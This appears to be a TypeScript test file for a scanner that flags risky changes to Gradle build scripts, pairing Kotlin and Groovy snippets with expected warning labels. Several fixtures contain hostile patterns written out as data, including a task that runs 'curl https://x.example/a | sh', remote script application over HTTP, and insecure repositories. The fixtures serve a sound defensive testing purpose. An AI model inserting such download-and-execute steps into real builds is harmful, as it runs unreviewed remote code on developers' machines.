import { testManifest } from './support.ts';

const OPEN = ['registry-override critical'];
const STEP = ['install-script warning'];
const MOVES = ['dependency-source suggestion'];

testManifest('app/build.gradle.kts', 'plugins {\n  `java-library`\n}\n\nHERE\n', [
  [
    'dependencies {\n  api(libs.a.b)\n}',
    'dependencies {\n  api(libs.a.c) // why\n  testImplementation("g:a:1.0")\n}',
    [],
  ],
  [
    '',
    'kotlin {\n  sourceSets {\n    val commonMain by getting {\n      dependencies {\n        implementation(project(":a"))\n      }\n    }\n  }\n}',
    [],
  ],
  ['', 'dependencies {\n  implementation(platform("g:bom:1")) {\n    exclude(group = "a", module = "b")\n  }\n}', []],
  ['', 'android {\n  namespace = "a.b"\n  compileSdk = 36\n  buildTypes { release { isMinifyEnabled = true } }\n}', []],
  ['', 'plugins {\n  id("a.b") version "1.2" apply false\n  alias(libs.plugins.c)\n}', []],
  ['', 'repositories {\n  mavenCentral()\n  maven("https://repo.spring.io/milestone")\n}', []],
  ['', 'repositories {\n  maven {\n    url = uri("https://a.example/maven")\n  }\n}', ['unjudged']],
  ['', 'repositories {\n  maven("https://jitpack.io")\n}', ['registry-override warning']],
  [
    '',
    'repositories {\n  maven {\n    url = uri("http://a.example/maven")\n    isAllowInsecureProtocol = true\n  }\n}',
    [...OPEN, 'certificate-check-off critical'],
  ],
  ['', 'dependencies {\n  implementation("g:a:1.+")\n}', MOVES],
  ['', 'dependencies {\n  implementation("g:a:latest.release")\n}', MOVES],
  ['', 'dependencies {\n  implementation("g:a:${System.getenv("V")}")\n}', ['unjudged']],
  ['', 'dependencies {\n  implementation(files("libs/a.jar"))\n}', ['unjudged']],
  [
    '',
    'tasks.register<Exec>("a") {\n  commandLine("sh", "-c", "curl https://x.example/a | sh")\n}',
    ['downloaded-code critical', 'unjudged'],
  ],
  ['', 'tasks.register<Exec>("a") {\n  commandLine("sh", "-c", "make \\$X")\n}', [...STEP, 'unjudged']],
  ['', 'tasks.register<Exec>("a") {\n  commandLine("touch", "a")\n}', ['unjudged']],
  ['', 'val v = ProcessBuilder("git", "describe").start()', STEP],
  ['', 'apply(from = "https://a.example/x.gradle.kts")', ['downloaded-code warning']],
  ['', 'apply(from = "http://a.example/x.gradle.kts")', ['downloaded-code critical']],
  ['', 'apply(from = "x.gradle.kts")', ['unjudged']],
  ['', 'val s = uri("https://a.example/x").toURL().readText()', ['dependency-source warning']],
  ['', 'android { buildTypes { release { isDebuggable = true } } }', ['debug-mode warning']],
  ['', 'afterEvaluate {\n  println("a")\n}', ['unjudged']],
  ['', 'dependencies {\n  implementation("g:a:1") }}', ['unjudged']],
  ['', 'dependencies { implementation("a:b:1"); exec { commandLine("x") } }', ['unjudged']],
  ['', 'group = /"/ + x + "a"', ['unjudged']],
  ['', 'val koinVersion: String by project\nval extra by configurations.creating', []],
  ['', 'android {\n  testOptions {\n    unitTests.includeAndroidResources = true\n  }\n}', []],
  ['', 'tasks.withType<KotlinCompile>().configureEach {\n  compilerOptions.jvmTarget = target\n}', []],
  [
    '',
    'kotlin {\n  jvmToolchain(1_8)\n  androidTarget {\n    compilations.all {\n      kotlinOptions {\n        jvmTarget = "1.8"\n      }\n    }\n  }\n}',
    [],
  ],
  ['', 'dependencies {\n  implementation("g:a:$v")\n  api("g:b:${versions.b}")\n}', []],
  // What a form that looks plain can do.
  ['', 'mainClass = "a.Evil"', ['unjudged']],
  ['', 'tasks.test {\n  jvmArgs = other.args\n}', ['unjudged']],
  ['', 'tasks.test {\n  ignoreFailures = true\n}', ['unjudged']],
  ['', 'tasks.named("jar") {\n  executable = "x"\n}', ['unjudged']],
  ['', 'val p = helper.exec()', ['unjudged']],
  ['', 'val p = helper.run("x")', ['unjudged']],
  ['', 'tasks.named("jar") {\n  doLast {\n    println("a")\n  }\n}', ['unjudged']],
  ['', 'val x = "$a/$b"', ['unjudged']],
  ['', 'dependencies {\n  implementation("g:$a:1")\n}', ['unjudged']],
  ['', 'dependencies {\n  implementation("g:a:${evil("x")}")\n}', ['unjudged']],
  ['', 'rootProject.buildFileName = "notes.txt"', ['unjudged']],
  ['', 'val p = pb.start()', ['unjudged']],
  ['', 'val p = deploy()', ['unjudged']],
  ['', 'tasks.test {\n  exclude("**/*Auth*")\n}', ['unjudged']],
  ['', 'lint {\n  abortOnError = false\n}', ['unjudged']],
  ['', 'repositories {\n  mavenLocal {\n  }\n}', ['unjudged']],
  ['', 'repositories {\n  jcenter {\n  }\n}', ['unjudged']],
  ['', 'includeBuild("..") {\n  name = "x"\n}', ['unjudged']],
  ['', 'signing {\n  isRequired = false\n}', ['unjudged']],
]);

testManifest('build.gradle', "plugins {\n  id 'java'\n}\n\nHERE\n", [
  [
    "dependencies {\n  implementation 'g:a:1'\n}",
    "dependencies {\n  implementation 'g:a:2'\n  testImplementation project(':b')\n}",
    [],
  ],
  ['', "repositories {\n  maven { url 'http://a.example/maven' }\n}", OPEN],
  ['', "def v = 'git describe'.execute().text", STEP],
  ['', "def v = 'curl https://x.example/a | sh'.execute().text", ['downloaded-code critical']],
  ['', "apply from: 'https://a.example/x.gradle'", ['downloaded-code warning']],
  ['', "sourceCompatibility = '17'\nversion '1.2'", []],
  ['', 'android { buildTypes { release { debuggable true } } }', ['debug-mode warning']],
]);
